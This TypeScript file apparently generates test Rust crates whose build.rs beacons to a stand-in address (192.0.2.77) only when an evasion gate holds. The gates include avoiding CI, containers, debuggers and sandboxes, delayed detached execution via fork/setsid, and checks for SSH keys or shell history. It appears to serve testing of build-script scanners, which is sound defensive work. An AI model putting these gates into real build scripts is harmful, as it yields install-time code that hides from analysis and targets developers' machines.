/** One way to look where one is before one acts: an expression of a build script that is true where it would act. */
export interface Gate {
  readonly tells: string;
  readonly open: string;
  /** Seconds to stay after the last phase, where it waits. */
  readonly linger?: number;
}

const variable = (name: string) => `std::env::var_os("${name}").is_some()`;
const read = (path: string) => `std::fs::read_to_string("${path}").unwrap_or_default()`;
const seconds = 'std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()';

export const GATES: readonly Gate[] = [
  { tells: 'on a CI only', open: variable('CI') },
  { tells: 'never on a CI', open: `!${variable('CI')}` },
  { tells: 'on GitHub only', open: variable('GITHUB_ACTIONS') },
  { tells: 'on GitLab only', open: variable('GITLAB_CI') },
  { tells: 'after a date', open: `${seconds} > 1_900_000_000` },
  { tells: 'on one day of the week', open: `${seconds} / 86_400 % 7 == 3` },
  {
    tells: 'on a machine with a name',
    open: `!${read('/etc/hostname')}.trim().chars().all(|c| c.is_ascii_hexdigit())`,
  },
  { tells: "on a hosted runner's name", open: `${read('/proc/sys/kernel/hostname')}.starts_with("fv-az")` },
  { tells: 'for anybody but root', open: 'std::env::var("USER").map_or(false, |user| user != "root")' },
  { tells: 'for one user', open: 'std::env::var("USER").map_or(false, |user| user == "runner")' },
  { tells: 'with one feature', open: variable('CARGO_FEATURE_EXTRA') },
  {
    tells: 'one time in two',
    open: 'std::hash::BuildHasher::hash_one(&std::collections::hash_map::RandomState::new(), 1) % 2 == 0',
  },
  { tells: 'after 40 seconds, detached', open: 'later()', linger: 50 },
  {
    tells: 'outside of containers',
    open: `!std::path::Path::new("/.dockerenv").exists() && !${read('/proc/1/cgroup')}.contains("docker")`,
  },
  {
    tells: 'where nothing is called after a scanner',
    open: '!std::env::vars().any(|(name, value)| format!("{name}{value}").to_lowercase().contains("sandbox"))',
  },
  { tells: 'where nobody traces it', open: `${read('/proc/self/status')}.contains("TracerPid:\\t0")` },
  {
    tells: 'on machines with four processors',
    open: 'std::thread::available_parallelism().map_or(0, |n| n.get()) >= 4',
  },
  { tells: 'where there are keys', open: `${read('/home/dev/.ssh/id_ed25519')}.len() > 300` },
  { tells: 'for users of Windows', open: 'std::env::var("CARGO_CFG_TARGET_OS").map_or(false, |os| os == "windows")' },
  {
    tells: 'where somebody has lived',
    open: `${read('/proc/uptime')}.split('.').next().map_or(0, |up| up.parse::<u64>().unwrap_or(0)) > 600 && ${read('/home/dev/.bash_history')}.lines().count() > 5`,
  },
];

/** Where a crate connects to that finds its gate open. */
export const SINK = '192.0.2.77';

export function filesOf({ open }: Gate, name: string): Record<string, string> {
  return {
    'Cargo.toml': `[package]\nname = "${name}"\nversion = "1.0.0"\nedition = "2021"\nbuild = "build.rs"\n[features]\nextra = []\n`,
    'src/lib.rs': '',
    'build.rs': `#![allow(warnings)]
extern "C" { fn fork() -> i32; fn setsid() -> i32; }
fn later() -> bool {
    unsafe { if fork() != 0 { return false } setsid(); for fd in 0..3 { close(fd); } }
    std::thread::sleep(std::time::Duration::from_secs(40));
    true
}
extern "C" { fn close(fd: i32) -> i32; }
fn main() {
    if ${open} { let _ = std::net::TcpStream::connect("${SINK}:443"); }
}
`,
  };
}
